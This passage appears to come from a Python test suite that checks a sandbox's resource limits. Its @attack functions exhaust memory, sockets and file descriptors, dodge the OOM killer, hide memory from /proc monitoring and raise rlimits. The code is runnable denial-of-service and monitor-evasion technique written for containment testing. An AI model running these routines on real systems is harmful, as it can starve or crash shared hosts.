    rules = struct.pack("QQQ", 1, 0, 0)
    return first(
        lambda: f"rules {syscall(444, ctypes.c_char_p(rules), 8, 0)}",
        lambda: f"knows rules of version {syscall(444, 0, 0, 1)}",
    )


@attack(ends="error")
def sockets_of_many(payload):
    """Each socket buffers 200 kB that no kernel shows; here they are only opened."""
    for _ in range(6):
        if os.fork() == 0:
            held = [socket.socketpair() for _ in range(1500)]
            time.sleep(5)
            os._exit(len(held) and 0)
    time.sleep(5)
    return "18,000 sockets"


@attack(ends="error")
def the_kernels_choice(payload):
    """Short of memory, the kernel shall kill something else first."""
    own = Path("/proc/self/oom_score_adj")
    own.write_text("0")
    time.sleep(0.5)
    if own.read_text().strip() == "0":
        return "not the first to be killed"
    end = time.monotonic() + 8
    while time.monotonic() < end:
        own.write_text("0")
        time.sleep(0.001)
    return "seldom the first to be killed"


@attack(ends="out_of_memory")
def page_tables(payload):
    """A byte of every two MiB is looked at, which takes 4 KiB of tables and nothing else."""
    count, step = 3 * payload["memory"] >> 12, 2 << 20
    LIBC.mmap.restype = ctypes.c_long
    start = LIBC.mmap(None, ctypes.c_size_t(count * step), 1, 0x4022, -1, ctypes.c_long(0))
    LIBC.madvise(ctypes.c_void_p(start), ctypes.c_size_t(count * step), 15)
    for number in range(count):
        ctypes.c_char.from_address(start + number * step).value
    time.sleep(4)  # a look at it may take long, and the next one comes a second later at most
    return "memory that says where there is none"


@attack(ends="out_of_memory")
def memory_of_many(payload):
    for _ in range(16):
        if os.fork() == 0:
            held = bytearray(b"x") * (payload["memory"] // 8)
            time.sleep(5)
            os._exit(len(held) and 0)
    time.sleep(5)
    return "memory in many processes"


@attack(ends="out_of_memory")
def memory_behind_an_ended_thread(payload):
    """The folder of a process says that it holds nothing once its first thread has ended."""

    def hold():
        time.sleep(0.5)
        held = bytearray(b"x") * (3 * payload["memory"])
        time.sleep(6)
        os._exit(len(held) and 0)

    if os.fork() == 0:
        threading.Thread(target=hold).start()
        LIBC.pthread_exit(None)
    time.sleep(6)
    return "memory of a process without its first thread"


@attack(ends="out_of_memory")
def memory_while_mappings_are_read(payload):
    """Mappings of a file with a path of line breaks take 255 KB of text each: whoever reads them is busy."""
    for _ in range(250):
        os.mkdir("\n" * 255)
        os.chdir("\n" * 255)
    file = os.open("f", os.O_CREAT | os.O_RDWR)
    os.ftruncate(file, 1 << 30)
    for number in range(10_000):
        LIBC.mmap(None, ctypes.c_size_t(4096), 1, 2, file, ctypes.c_long(2 * number * 4096))
    time.sleep(1.2)
    held = [bytearray(b"x") * (payload["memory"] // 4) for _ in range(12)]
    time.sleep(1)
    return held and "memory that is held for a second"


@attack
def huge_pages(payload):
    block = LIBC.mmap
    block.restype, block.argtypes = (
        ctypes.c_long,
        [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long],
    )
    return None if block(None, 1 << 21, 3, 0x40022, -1, 0) == -1 else "mapped a huge page"


@attack
def system_v_memory(payload):
    return f"made {syscall(29 if X86 else 194, 0, 3 << 30, 0o1600)}"


@attack
def one_large_file(payload):
    with open("large", "wb") as file:
        for _ in range(payload["file_limit"] + (1 << 20) >> 20):
            file.write(bytes(1 << 20))
    return "a file over its limit"


@attack
def many_files(payload):
    for number in range(2_000):
        Path(f"file-{number}").touch()


@attack
def many_descriptors(payload):
    held = []
    with contextlib.suppress(OSError):
        while len(held) < 100_000:
            held.append(os.open("/dev/null", os.O_RDONLY))
    for descriptor in held:
        os.close(descriptor)
    return len(held) >= 5000 and f"{len(held)} descriptors"


@attack
def raise_its_limits(payload):
    resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 20, 1 << 20))
    return "raised"


@attack
def lock_memory(payload):
    _, hard = resource.getrlimit(resource.RLIMIT_MEMLOCK)
    return LIBC.mlockall(3) == 0 and hard == resource.RLIM_INFINITY and "locked all memory"


def stay(payload):
    leave_a_daemon(payload)
    time.sleep(60)


def buffers(payload):
    """What one socket can be made to buffer, and what all pipes together that a process can open, in bytes."""
    one, other = socket.socketpair()
    for end, option in ((one, socket.SO_SNDBUF), (other, socket.SO_RCVBUF)):
        end.setsockopt(socket.SOL_SOCKET, option, 64 << 20)
    one.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        while True:
            one.send(b"x" * 60_000)
    # SO_MEMINFO: the third number is what waits to be read, with what the kernel needs to keep it.
    of_socket = struct.unpack("9I", one.getsockopt(socket.SOL_SOCKET, 55, 36))[2]
    of_pipes, held = 0, []
    with contextlib.suppress(OSError):
        while True:
            held += os.pipe()
            with contextlib.suppress(OSError):
                fcntl.fcntl(held[-1], fcntl.F_SETPIPE_SZ, 1 << 20)
            of_pipes += fcntl.fcntl(held[-1], fcntl.F_GETPIPE_SZ)
    for descriptor in held:
        os.close(descriptor)
    return {"of_socket": of_socket, "of_pipes": of_pipes, "pipes": len(held) // 2}


def reach(payload):
    """Write a file into a folder, as an attack does."""
    leave(f"{payload['folder']}/reached.txt")
    return {"gained": None, "left": LEFT}


HELPERS = {"stay": stay, "buffers": buffers, "reach": reach}
"""Parts of other tests."""
